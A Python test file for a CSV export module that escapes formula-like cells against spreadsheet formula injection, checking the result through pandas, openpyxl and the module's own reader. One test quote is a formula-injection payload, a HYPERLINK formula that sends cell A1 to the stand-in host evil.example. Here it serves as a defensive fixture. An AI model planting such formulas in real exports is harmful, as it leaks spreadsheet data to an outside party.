"""Safe CSVs: one atomic, formula-safe writer whose escape our own readers undo exactly.

A quote that looks like a formula is opened three ways: as pandas reads the file, as a spreadsheet would
take each cell (openpyxl infers the cell type from the text, as typing it into a sheet does), and with our
own reader, which must give back the exact text.
"""
from __future__ import annotations

import csv
import os
import stat

import openpyxl
import pandas as pd
import pytest

from workbench.export import ExportError
from workbench.export.tables import (ESCAPE, FORMULA_START, escape_formula, read_table_csv, unescape_formula,
                                     write_csv_workbook, write_table_csv)

QUOTES = [
    '=HYPERLINK("http://evil.example/?q="&A1,"minutes")',
    "+44 7700 900123, ring me after the session",
    "-5 minutes was all we got to speak",
    "@everyone please bring your receipts",
    "\tindented by the transcriber",
    "\rcarriage return first",
    "'s the bit, though",  # starts with the escape character: left alone (not a formula)
    "'=looks escaped already",  # an apostrophe, then a formula start: gets one more
    "''-doubled",
    "=",
    "NA",  # stays text, not a missing value
    "null",
    "plain words, nothing odd",
    "",
]


def _frame() -> pd.DataFrame:
    n = len(QUOTES)
    return pd.DataFrame({"doc_id": ["t1.txt"] * n, "seg_id": [f"t1.txt#{i:04d}" for i in range(n)],
                         "start_char": range(0, 10 * n, 10), "end_char": range(5, 10 * n + 5, 10),
                         "score": [-0.5 + i / 10 for i in range(n)], "text": QUOTES,
                         "=column": ["x"] * n})


def test_escape_is_exactly_undone():
    for value in [*QUOTES, "'", "''", "'=x", "a'b", "'''@", "' =", "'s"]:
        escaped = escape_formula(value)
        assert unescape_formula(escaped) == value
        if value.lstrip(ESCAPE)[:1] in FORMULA_START and value.lstrip(ESCAPE):
            assert escaped == ESCAPE + value
        else:
            assert escaped == value
    assert escape_formula(-3) == -3 and unescape_formula(3.5) == 3.5


def test_a_formula_looking_quote_through_pandas_openpyxl_and_our_reader(tmp_path):
    frame = _frame()
    path = write_table_csv(frame, tmp_path / "segments.csv")
    assert path == tmp_path / "segments.csv"

    # pandas: the file as anyone else reads it - every risky cell starts with the apostrophe
    plain = pd.read_csv(path, keep_default_na=False)
    for original, seen in zip(QUOTES, plain["text"]):
        risky = original.lstrip(ESCAPE)[:1] in FORMULA_START and original.lstrip(ESCAPE)
        assert not seen.startswith(FORMULA_START), seen
        assert seen == (ESCAPE + original if risky else original)
    assert list(plain.columns)[-1] == "'=column"
    assert plain["score"].tolist() == frame["score"].tolist()  # numbers are never touched
    assert plain["start_char"].tolist() == frame["start_char"].tolist()

    # a spreadsheet: each raw cell put into a sheet as typed text; openpyxl takes text starting with '='
    # as a formula, so nothing here may start with it
    book = openpyxl.Workbook()
    sheet = book.active
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    for r, row in enumerate(rows, start=1):
        for c, raw in enumerate(row, start=1):
            cell = sheet.cell(row=r, column=c, value=raw)
            assert cell.data_type != "f", raw
    control = sheet.cell(row=len(rows) + 1, column=1, value=QUOTES[0])
    assert control.data_type == "f"  # the unescaped quote would have been a formula

    # our reader: the exact text, and the exact frame
    back = read_table_csv(path)
    assert back["text"].fillna("").tolist() == QUOTES
    assert back["text"].isna().tolist() == [q == "" for q in QUOTES]  # only empty cells are missing
    pd.testing.assert_frame_equal(back.assign(text=back["text"].fillna("")), frame)

    # the workbook built from the CSV files holds the exact text, stored as text
    xlsx = write_csv_workbook({"segments": path}, tmp_path / "tables.xlsx")
    cells = list(openpyxl.load_workbook(xlsx)["segments"].iter_rows(min_row=2))
    texts = [row[5] for row in cells]
    assert [cell.value or "" for cell in texts] == QUOTES
    assert all(cell.data_type == "s" for cell in texts if cell.value)
    assert openpyxl.load_workbook(xlsx)["segments"].cell(row=1, column=7).value == "=column"


def test_writer_is_atomic_and_leaves_usual_file_modes(tmp_path):
    path = tmp_path / "out" / "t.csv"
    write_table_csv(_frame(), path)
    before = path.read_bytes()
    with pytest.raises(ExportError, match=r"\[E451\]"):
        write_table_csv("not a frame", path)  # type: ignore[arg-type]
    assert path.read_bytes() == before
    assert [p.name for p in path.parent.iterdir()] == ["t.csv"]  # no temp files left
    if os.name == "posix":
        mask = os.umask(0)
        os.umask(mask)
        assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~mask


def test_index_is_left_out_unless_asked(tmp_path):
    frame = _frame().iloc[[2, 0]]  # not a RangeIndex
    write_table_csv(frame, tmp_path / "a.csv")
    assert list(read_table_csv(tmp_path / "a.csv").columns) == list(frame.columns)
    named = frame.set_index("seg_id")
    write_table_csv(named, tmp_path / "b.csv", index=True)
    assert list(read_table_csv(tmp_path / "b.csv").columns)[0] == "seg_id"


def test_verify_reads_the_escaped_tables_as_their_text(tmp_path):
    from workbench.verify import compare_tables

    a, b = tmp_path / "a.csv", tmp_path / "b.csv"
    write_table_csv(_frame(), a)
    changed = _frame()
    changed.loc[0, "text"] = "=HYPERLINK(other)"
    write_table_csv(changed, b)
    status, detail = compare_tables(a, b)
    assert status == "differs" and "'=HYPERLINK(other)'" in detail  # the text, without the escape
    write_table_csv(_frame(), b)
    assert compare_tables(a, b)[0] == "identical"
